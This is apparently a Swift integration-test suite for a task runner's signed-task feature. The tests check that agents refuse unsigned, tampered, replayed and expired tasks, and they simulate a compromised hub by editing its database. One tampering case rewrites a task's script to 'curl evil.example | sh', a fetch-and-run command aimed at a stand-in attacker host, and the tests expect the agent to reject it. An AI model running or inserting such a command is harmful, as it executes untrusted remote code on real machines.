import Foundation
import OutpostClient
import OutpostCore
import OutpostSigning
import OutpostTestSupport
import Testing

/// Signed tasks with real processes: `outpost keys generate`, `outpost task run
/// --sign-key`, an agent with `--require-signed-tasks`, and a hub whose database is
/// changed by hand behind its back (what a compromised hub or a tampered row looks like
/// to the agent).
@Suite("Signed tasks (processes)", .serialized)
struct SignedTaskTests {
    /// Two signers: alice (Ed25519) and bob (ES256), and a key set trusting both (rotation).
    struct Signers {
        var alice: String
        var bob: String
        var trusted: String
        var aliceOnlySet: String
        var bobOnlySet: String

        init(cluster: Cluster) async throws {
            for (kid, algorithm) in [("alice", "ed25519"), ("bob", "es256")] {
                let made = try await cluster.cli(
                    ["keys", "generate", "--out", cluster.directory.file("keys-\(kid)"), "--kid", kid, "--algorithm", algorithm])
                #expect(made.code == 0, "\(made.stderr)")
                #expect(made.stdout.contains("kid: \(kid)"))
            }
            alice = cluster.directory.file("keys-alice/task-signing-key.pem")
            bob = cluster.directory.file("keys-bob/task-signing-key.pem")
            aliceOnlySet = cluster.directory.file("keys-alice/task-verification-keys.json")
            bobOnlySet = cluster.directory.file("keys-bob/task-verification-keys.json")
            // Exactly two files each, the private one 0600.
            let files = try FileManager.default.contentsOfDirectory(atPath: cluster.directory.file("keys-alice")).sorted()
            #expect(files == ["task-signing-key.pem", "task-verification-keys.json"])
            let mode = try FileManager.default.attributesOfItem(atPath: alice)[.posixPermissions] as? Int
            #expect(mode == 0o600)
            trusted = cluster.directory.file("trusted-keys.json")
            try Self.merge([aliceOnlySet, bobOnlySet], into: trusted)
        }

        /// One key set holding the keys of several (what an operator does by hand).
        static func merge(_ sets: [String], into path: String) throws {
            var keys: [Any] = []
            for set in sets {
                let object = try JSONSerialization.jsonObject(with: try Data(contentsOf: URL(fileURLWithPath: set)))
                keys += ((object as? [String: Any])?["keys"] as? [Any]) ?? []
            }
            let data = try JSONSerialization.data(withJSONObject: ["keys": keys])
            // Written beside and renamed over: the agent must never read half a file.
            try data.write(to: URL(fileURLWithPath: path + ".new"))
            _ = rename(path + ".new", path)
        }
    }

    static func enforcingArguments(_ keys: String, mode: String = "true") -> [String] {
        ["--kill-grace", "2s", "--require-signed-tasks", mode, "--verification-keys", keys]
    }

    /// `task run --json` → the final task.
    static func runTask(_ cluster: Cluster, _ arguments: [String]) async throws -> (code: Int32?, task: TaskRecord?, stderr: String) {
        let run = try await cluster.cli(["task", "run"] + arguments + ["--json"])
        let task = try? WireJSON.decoder().decode(TaskRecord.self, from: Data(run.stdout.utf8))
        return (run.code, task, run.stderr)
    }

    @Test("signed tasks run and record their key; unsigned ones are refused; two keys trusted; a key removed from the file stops working without a restart")
    func runsAndRecordsSigner() async throws {
        let cluster = try await Cluster()
        defer { cluster.terminate() }
        let signers = try await Signers(cluster: cluster)
        try await cluster.startAgent(name: "signed-agent-1", arguments: Self.enforcingArguments(signers.trusted))
        _ = try await cluster.client.createTarget(
            Target(name: "signed", integration: "bash", env: ["GREETING": "hello"], timeoutSeconds: 120))
        let marker = cluster.directory.file("ran")
        let script = "echo \"$GREETING\" >> \(marker)"

        for (key, kid) in [(signers.alice, "alice"), (signers.bob, "bob")] {
            let run = try await Self.runTask(cluster, ["signed", "--script", script, "--sign-key", key])
            #expect(run.code == 0, "\(run.stderr)")
            #expect(run.task?.status == .succeeded)
            #expect(run.task?.signed == true)
            #expect(run.task?.signedBy == kid)
            #expect(run.stderr.contains("signed task \(run.task?.id ?? "?") with key \(kid)"))
        }

        let unsigned = try await Self.runTask(cluster, ["signed", "--script", script])
        #expect(unsigned.code == 125)
        #expect(unsigned.task?.status == .rejected)
        #expect(unsigned.task?.signed == false)
        #expect(unsigned.task?.error == "signed task refused: the task is not signed, and this agent runs only signed tasks")

        // Rotation: alice's key leaves the trusted set; the running agent re-reads the file.
        try Signers.merge([signers.bobOnlySet], into: signers.trusted)
        let retired = try await Self.runTask(cluster, ["signed", "--script", script, "--sign-key", signers.alice])
        #expect(retired.task?.status == .rejected)
        #expect(retired.task?.error?.contains(#"signed by key "alice", which this agent does not trust"#) == true, "\(retired.task?.error ?? "")")
        let current = try await Self.runTask(cluster, ["signed", "--script", script, "--sign-key", signers.bob])
        #expect(current.task?.status == .succeeded)

        let ran = (try? String(contentsOfFile: marker, encoding: .utf8)) ?? ""
        #expect(ran == "hello\nhello\nhello\n")
        let agentLog = cluster.agents[0].process.stderr
        #expect(agentLog.contains("reloaded the signed-task verification keys"))
    }

    @Test("every signed field changed in the hub's database is refused by name, before any secret is fetched")
    func tamperedRows() async throws {
        let cluster = try await Cluster()
        defer { cluster.terminate() }
        let signers = try await Signers(cluster: cluster)
        _ = try await cluster.client.createTarget(
            Target(
                name: "guarded", integration: "bash", env: ["MODE": "read-only"],
                secrets: [SecretReference(provider: "vault", path: "db/orders", mapping: ["PGPASSWORD": "password"])]))
        _ = try await cluster.client.createTarget(Target(name: "other", integration: "bash"))
        // Submitted while no agent is online, so they wait in the database to be changed.
        let changes: [(field: String, sql: String)] = [
            ("the script", #"json_set(assignment, '$.script', 'curl evil.example | sh')"#),
            ("the target", #"json_set(assignment, '$.target.name', 'other')"#),
            ("the environment variables (\"MODE\")", #"json_set(assignment, '$.target.env.MODE', 'read-write')"#),
            ("the secret references", #"json_set(assignment, '$.target.secrets[0].mapping.PGPASSWORD', 'admin_password')"#),
            ("the timeout", #"json_set(assignment, '$.timeout_seconds', 604800)"#),
        ]
        var ids: [String] = []
        for _ in changes {
            let run = try await cluster.cli(
                ["task", "run", "guarded", "--script", "echo should not run", "--sign-key", signers.alice, "--detach"])
            #expect(run.code == 0, "\(run.stderr)")
            ids.append(run.stdout.trimmingCharacters(in: .whitespacesAndNewlines))
        }
        await cluster.hub.process.kill9()
        for (id, change) in zip(ids, changes) {
            try await Database(cluster).run("UPDATE tasks SET assignment = \(change.sql) WHERE id = '\(id)'")
        }
        try await cluster.hub.killAndRestart()

        // No secret provider is configured: a task that got past the signature check
        // would be refused for its secret instead, with another reason.
        try await cluster.startAgent(name: "signed-agent-2", arguments: Self.enforcingArguments(signers.trusted))
        for (id, change) in zip(ids, changes) {
            let task = try await cluster.waitForTask(id)
            #expect(task.status == .rejected)
            #expect(task.error?.hasPrefix("signed task refused: the task differs from what was signed: \(change.field)") == true,
                "\(change.field): \(task.error ?? "")")
            #expect(task.signedBy == nil)
        }
    }

    @Test("a captured signed task is refused when replayed: to the same agent (also after its restart) and, under a new id, to another")
    func replay() async throws {
        let cluster = try await Cluster()
        defer { cluster.terminate() }
        let signers = try await Signers(cluster: cluster)
        _ = try await cluster.client.createTarget(Target(name: "once", integration: "bash"))
        let marker = cluster.directory.file("ran")
        let first = try await cluster.startAgent(name: "signed-agent-3", arguments: Self.enforcingArguments(signers.trusted))
        let original = try await Self.runTask(cluster, ["once", "--script", "echo once >> \(marker)", "--sign-key", signers.alice])
        let id = try #require(original.task?.id)
        #expect(original.task?.status == .succeeded)

        // The hub (compromised) queues the very same task again.
        try await replayAsQueued(cluster, id: id)
        var replayed = try await cluster.waitForTask(id)
        #expect(replayed.status == .rejected)
        #expect(replayed.error == "signed task refused: this agent already ran a task with this signature's nonce: a signed task runs once")

        // The agent restarts: its journal remembers.
        first.process.signal(SIGTERM)
        _ = await first.process.waitForExit(timeout: .seconds(20))
        try await replayAsQueued(cluster, id: id)
        try await cluster.startAgent(
            name: "signed-agent-3", workDirectory: first.workDirectory, arguments: Self.enforcingArguments(signers.trusted))
        replayed = try await cluster.waitForTask(id)
        #expect(replayed.status == .rejected)
        #expect(replayed.error?.contains("already ran a task with this signature's nonce") == true)

        // Another agent, fresh, gets the captured task under a new id.
        cluster.agents.last?.process.signal(SIGKILL)
        try await cluster.startAgent(name: "signed-agent-4", arguments: Self.enforcingArguments(signers.trusted))
        let copy = "tsk_replayedcopy0000000000"
        await cluster.hub.process.kill9()
        try await Database(cluster).run(
            """
            INSERT INTO tasks (id, target, status, tags, assignment, created_at, timeout_seconds, log_bytes, log_truncated,
                cancel_requested, created_by, user_token_required, agent_types, signed)
            SELECT '\(copy)', target, 'queued', tags, json_set(assignment, '$.task_id', '\(copy)'), created_at,
                timeout_seconds, 0, 0, 0, created_by, 0, agent_types, 1
            FROM tasks WHERE id = '\(id)'
            """)
        try await cluster.hub.killAndRestart()
        let copied = try await cluster.waitForTask(copy)
        #expect(copied.status == .rejected)
        #expect(copied.error?.contains("the task id (signed for \"\(id)\", handed over as \"\(copy)\") was changed") == true, "\(copied.error ?? "")")
        #expect(((try? String(contentsOfFile: marker, encoding: .utf8)) ?? "") == "once\n")
    }

    @Test("warn mode runs a task that fails the check, logs why and records it; expired and not-yet-valid signatures are refused in require mode")
    func warnModeAndExpiry() async throws {
        let cluster = try await Cluster()
        defer { cluster.terminate() }
        let signers = try await Signers(cluster: cluster)
        _ = try await cluster.client.createTarget(Target(name: "migrating", integration: "bash"))
        let warned = try await cluster.startAgent(
            name: "signed-agent-5", arguments: Self.enforcingArguments(signers.aliceOnlySet, mode: "warn"))
        let unsigned = try await Self.runTask(cluster, ["migrating", "--script", "echo ran"])
        #expect(unsigned.task?.status == .succeeded)
        #expect(unsigned.task?.signedBy == nil)
        // The hub shows what `require` would have refused, for the migration.
        #expect(unsigned.task?.signatureWarning == "the task is not signed, and this agent runs only signed tasks")
        let bySomeoneElse = try await Self.runTask(cluster, ["migrating", "--script", "echo ran", "--sign-key", signers.bob])
        #expect(bySomeoneElse.task?.status == .succeeded)
        #expect(bySomeoneElse.task?.signatureWarning?.contains(#"signed by key "bob", which this agent does not trust"#) == true)
        let shown = try await cluster.cli(["task", "get", bySomeoneElse.task?.id ?? "?"])
        #expect(shown.stdout.contains("signature:  not verified (the agent, in warn mode, ran it anyway): the task is signed by key"))
        let signed = try await Self.runTask(cluster, ["migrating", "--script", "echo ran", "--sign-key", signers.alice])
        #expect(signed.task?.signedBy == "alice")
        #expect(signed.task?.signatureWarning == nil)
        #expect(await eventually {
            warned.process.stderr.contains("running a task whose signature does not check out (require_signed_tasks: warn): the task is not signed")
                && warned.process.stderr.contains(#"signed by key "bob", which this agent does not trust"#)
        })

        // Require mode: signatures made by a signer whose clock is 12 minutes behind
        // (expired: 10 minutes of validity) and 3 minutes ahead (not yet valid), past the
        // agent's 30 s leeway either way.
        warned.process.signal(SIGKILL)
        try await cluster.startAgent(name: "signed-agent-6", arguments: Self.enforcingArguments(signers.aliceOnlySet))
        let key = try TaskSigningKey(pemFile: String(contentsOfFile: signers.alice, encoding: .utf8))
        let target = try await cluster.client.target(named: "migrating")
        for (offset, reason) in [(-720.0, "the signature expired at"), (180.0, "the signature is not valid before")] {
            let id = Identifiers.make(prefix: "tsk")
            let content = SignedTaskContent(
                taskID: id, target: target, scriptSHA256: TaskSigner.scriptDigest("echo skewed"), timeoutSeconds: 60)
            let envelope = try TaskSigner(key: key).sign(content, now: Date().addingTimeInterval(offset))
            _ = try await cluster.client.createTask(
                CreateTaskRequest(target: "migrating", script: "echo skewed", timeoutSeconds: 60, id: id, signature: envelope))
            let refused = try await cluster.waitForTask(id)
            #expect(refused.status == .rejected)
            #expect(refused.error?.contains(reason) == true, "\(refused.error ?? "")")
        }
    }

    @Test("an agent type's signed-task hint raises what its agents enforce, and `outpost agents` shows it")
    func agentTypeHint() async throws {
        let cluster = try await Cluster()
        defer { cluster.terminate() }
        let signers = try await Signers(cluster: cluster)
        let created = try await cluster.cli(["agent-type", "create", "strict", "--signed-tasks", "require", "--json"])
        #expect(created.code == 0, "\(created.stderr)")
        let token = try WireJSON.decoder().decode(AgentTypeTokenResponse.self, from: Data(created.stdout.utf8))
        #expect(token.agentType.signedTasks == .require)
        _ = try await cluster.client.createTarget(Target(name: "hinted", integration: "bash"))
        // The agent's own setting is off; it holds keys, and its type asks for require.
        let agent = try AgentHarness(
            hub: cluster.hub.url, registrationToken: token.registrationToken, name: "hinted-agent-1",
            workDirectory: cluster.directory.file("hinted"), tags: nil, concurrency: 1,
            arguments: ["--kill-grace", "2s", "--verification-keys", signers.trusted],
            environment: ChildProcess.baseEnvironment())
        defer { agent.process.signal(SIGKILL) }
        try await agent.waitUntilOnline(cluster.client)
        let listed = try await cluster.cli(["agents", "--json"])
        let agents = try WireJSON.decoder().decode(ListResponse<AgentRecord>.self, from: Data(listed.stdout.utf8)).items
        #expect(agents.first { $0.name == "hinted-agent-1" }?.signedTasks == .require)
        #expect(agent.process.stderr.contains("this agent's type asks for signed tasks: enforcing require"))

        let unsigned = try await Self.runTask(cluster, ["hinted", "--script", "true"])
        #expect(unsigned.task?.status == .rejected)
        let signed = try await Self.runTask(cluster, ["hinted", "--script", "true", "--sign-key", signers.bob])
        #expect(signed.task?.status == .succeeded)
        #expect(signed.task?.signedBy == "bob")
    }

    @Test("a target the hub changed between two signatures is not signed again until the signer accepts the change")
    func knownTargets() async throws {
        let cluster = try await Cluster()
        defer { cluster.terminate() }
        let signers = try await Signers(cluster: cluster)
        try await cluster.startAgent(name: "signed-agent-7", arguments: Self.enforcingArguments(signers.trusted))
        _ = try await cluster.client.createTarget(Target(name: "watched", integration: "bash", env: ["MODE": "read-only"]))
        let first = try await Self.runTask(cluster, ["watched", "--script", "echo $MODE", "--sign-key", signers.alice])
        #expect(first.task?.status == .succeeded)
        #expect(first.stderr.contains("first signature for target watched on \(cluster.hub.url)"))
        let again = try await Self.runTask(cluster, ["watched", "--script", "echo $MODE", "--sign-key", signers.alice])
        #expect(again.task?.status == .succeeded)
        #expect(!again.stderr.contains("first signature"))

        // The hub (compromised, or an admin) changes the target behind the signer's back.
        try await cluster.client.deleteTarget(named: "watched")
        _ = try await cluster.client.createTarget(Target(name: "watched", integration: "bash", env: ["MODE": "read-write"]))
        let refused = try await cluster.cli(["task", "run", "watched", "--script", "echo $MODE", "--sign-key", signers.alice])
        #expect(refused.code == 2)
        #expect(refused.stderr.contains(
            "target watched changed on the hub since you last signed for it: the environment variables changed"), "\(refused.stderr)")
        let accepted = try await Self.runTask(
            cluster, ["watched", "--script", "echo $MODE", "--sign-key", signers.alice, "--accept-target-change"])
        #expect(accepted.task?.status == .succeeded)
        let settled = try await Self.runTask(cluster, ["watched", "--script", "echo $MODE", "--sign-key", signers.alice])
        #expect(settled.code == 0, "\(settled.stderr)")
    }

    @Test("bad input: a world-readable key, a missing key set, an unusable key set, and require without keys fail fast with the reason")
    func badInput() async throws {
        let cluster = try await Cluster()
        defer { cluster.terminate() }
        let signers = try await Signers(cluster: cluster)
        _ = try await cluster.client.createTarget(Target(name: "any", integration: "bash"))
        chmod(signers.alice, 0o644)
        let readable = try await cluster.cli(["task", "run", "any", "--script", "true", "--sign-key", signers.alice])
        #expect(readable.code == 2)
        #expect(readable.stderr.contains("can be read by other users (mode 644); run `chmod 600"))
        chmod(signers.alice, 0o600)
        let again = try await cluster.cli(["keys", "generate", "--out", cluster.directory.file("keys-alice")])
        #expect(again.code == 2)
        #expect(again.stderr.contains("already exists"))

        let garbage = cluster.directory.file("garbage.json")
        try Data(#"{"keys": [{"kid": "rsa", "kty": "RSA", "n": "AQAB", "e": "AQAB"}]}"#.utf8).write(to: URL(fileURLWithPath: garbage))
        let cases: [(arguments: [String], message: String)] = [
            (["--require-signed-tasks", "true"], "require_signed_tasks: needs verification_keys"),
            (["--require-signed-tasks", "maybe", "--verification-keys", signers.trusted], "must be true, false or warn"),
            (["--require-signed-tasks", "true", "--verification-keys", cluster.directory.file("nope.json")], "cannot be read"),
            (["--require-signed-tasks", "true", "--verification-keys", garbage], "holds no usable key (rsa: it is a \"RSA\" key"),
        ]
        for entry in cases {
            let agent = try ChildProcess(
                ["agent", "start", "--hub", cluster.hub.url, "--token", cluster.registrationToken,
                 "--work-dir", cluster.directory.file("bad-agent")] + entry.arguments)
            let code = await agent.waitForExit(timeout: .seconds(10))
            #expect(code == 2, "\(entry.arguments)")
            #expect(agent.stderr.contains(entry.message), "\(agent.stderr)")
        }
    }

    /// Makes a finished task queued again, as a hub replaying it would (the hub is
    /// stopped for the change and started again).
    private func replayAsQueued(_ cluster: Cluster, id: String) async throws {
        await cluster.hub.process.kill9()
        try await Database(cluster).run(
            """
            UPDATE tasks SET status = 'queued', agent_id = NULL, agent_name = NULL, exit_code = NULL, error = NULL,
                started_at = NULL, finished_at = NULL, signed_by = NULL WHERE id = '\(id)'
            """)
        try await cluster.hub.killAndRestart()
    }
}

/// The hub's SQLite database, changed with Python's `sqlite3` (as an intruder with a
/// shell on the hub's host could).
struct Database {
    let path: String

    init(_ cluster: Cluster) {
        path = cluster.hub.dataDirectory + "/outpost.sqlite"
    }

    func run(_ statement: String) async throws {
        let code = """
            import sqlite3, sys
            db = sqlite3.connect(sys.argv[1])
            changed = db.execute(sys.argv[2]).rowcount
            db.commit()
            if changed < 1: sys.exit("no row changed")
            """
        let process = try ChildProcess(["python3", "-c", code, path, statement], executable: "/usr/bin/env")
        process.closeStdin()
        let exit = await process.waitForExit(timeout: .seconds(30))
        guard exit == 0 else { throw HarnessError("sqlite change failed: \(process.stderr)") }
    }
}
